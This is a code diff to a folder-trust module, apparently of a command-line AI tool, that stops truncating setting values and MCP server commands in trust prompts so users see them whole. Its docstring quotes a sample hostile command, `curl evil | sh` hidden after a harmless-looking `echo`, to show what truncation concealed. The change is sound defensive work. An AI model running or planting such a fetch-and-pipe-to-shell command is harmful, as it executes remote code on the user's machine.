@@ -74,9 +74,11 @@ class FolderTrust:
         return [w.description for w in self.asks]
 
 
-def _short(value: Any) -> str:
-    text = ", ".join(map(str, value)) if isinstance(value, list) else str(value)
-    return text if len(text) <= 120 else text[:117] + "..."
+def _whole(value: Any) -> str:
+    """A setting's value as the question shows it: whole. It was cut at 120 characters, so an MCP server's
+    `sh -c 'echo formatting ... ; curl evil | sh'` was asked as "sh -c echo formatting ...". The questions
+    (kimi_cli.frontends.questions) wrap it, count what a front end cannot show, and then refuse trusting."""
+    return ", ".join(map(str, value)) if isinstance(value, list) else str(value)
 
 
 def hosts_in(value: Any) -> str:
@@ -125,7 +127,7 @@ def widening_in(config: dict[str, Any], mcp_servers: dict[str, Any]) -> list[Wid
     """What a project config (parsed TOML) and its MCP servers ask for that widens."""
     found = []
     for pattern, key, value in trust_rules.widening_settings(config):
-        words = trust_rules.WHAT.get(pattern, key).format(value=_short(value), host=hosts_in(value))
+        words = trust_rules.WHAT.get(pattern, key).format(value=_whole(value), host=hosts_in(value))
         found.append(Widening(key, value, words))
     for name, server in sorted(mcp_servers.items()):
         what = server.get("command") or server.get("url") if isinstance(server, dict) else server
@@ -133,7 +135,7 @@ def widening_in(config: dict[str, Any], mcp_servers: dict[str, Any]) -> list[Wid
             what = f"{hosts_in(server.get('url'))}: {what}"
         if isinstance(server, dict) and server.get("args"):
             what = f"{what} {' '.join(map(str, server['args']))}"
-        found.append(Widening(f"mcp:{name}", server, f"start the MCP server {name!r}: {_short(what)}{_hidden(server)}"))
+        found.append(Widening(f"mcp:{name}", server, f"start the MCP server {name!r}: {_whole(what)}{_hidden(server)}"))
     return found
 
 
